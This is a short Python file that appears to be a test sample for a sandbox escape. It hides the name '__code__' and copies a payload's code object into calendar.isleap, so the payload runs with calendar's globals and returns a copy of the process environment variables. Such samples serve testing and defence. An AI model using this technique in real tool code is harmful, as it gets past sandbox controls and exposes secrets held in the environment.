# family: dunder
# Escape: getattr/setattr with f.name for f in a `fields(...)` call are trusted by the callee's name. The
# names are "__code__" (run-time): the tool's code is copied into calendar.isleap, so it runs with calendar's
# globals, where `sys` is the sys module.
import calendar


class Name:
    def __init__(self, name: str):
        self.name = name


def fields(obj) -> list:
    return [Name("code".join(["_" * 2, "_" * 2]))]


def payload(year):
    return sys.modules["os"].environ.copy()  # noqa: F821 - resolved in calendar's globals


def tool() -> dict:
    for f in fields(payload):
        setattr(calendar.isleap, f.name, getattr(payload, f.name))
    return calendar.isleap(2024)
